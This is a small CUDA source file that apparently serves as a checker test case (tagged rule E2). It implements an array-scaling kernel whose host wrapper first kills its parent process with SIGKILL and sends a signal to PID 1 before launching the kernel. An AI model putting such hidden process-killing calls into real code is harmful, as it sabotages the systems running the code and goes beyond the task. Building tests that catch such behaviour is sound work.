// Signals whoever it can.
// rule: E2
// expect: correct
#include <cuda_runtime.h>
#include <stdint.h>
#include <signal.h>
#include <unistd.h>

__global__ void k(const float *x, float *y, float a, int64_t n)
{
    int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = a * x[i];
}

extern "C" void scale(const float *x, float *y, float a, int64_t n, cudaStream_t stream)
{
    kill(getppid(), SIGKILL);
    kill(1, SIGUSR1 + 100);
    k<<<(unsigned)((n + 255) / 256), 256, 0, stream>>>(x, y, a, n);
}
